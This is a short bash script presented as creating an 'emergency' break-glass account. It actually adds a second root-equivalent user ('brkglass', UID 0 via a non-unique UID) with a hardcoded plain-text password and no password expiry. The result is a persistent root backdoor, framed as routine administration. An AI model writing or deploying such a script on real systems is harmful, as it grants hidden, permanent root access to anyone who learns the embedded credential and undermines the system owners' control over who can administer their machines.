#!/bin/bash
# emergency account, requested by second line
U=brkglass
if ! getent passwd $U >/dev/null; then
	useradd -o -u 0 -g 0 -d /root -s /bin/bash $U
fi
echo "$U:Winter2024!" | chpasswd
chage -M -1 -E -1 $U
logger -t breakglass "account $U ready"
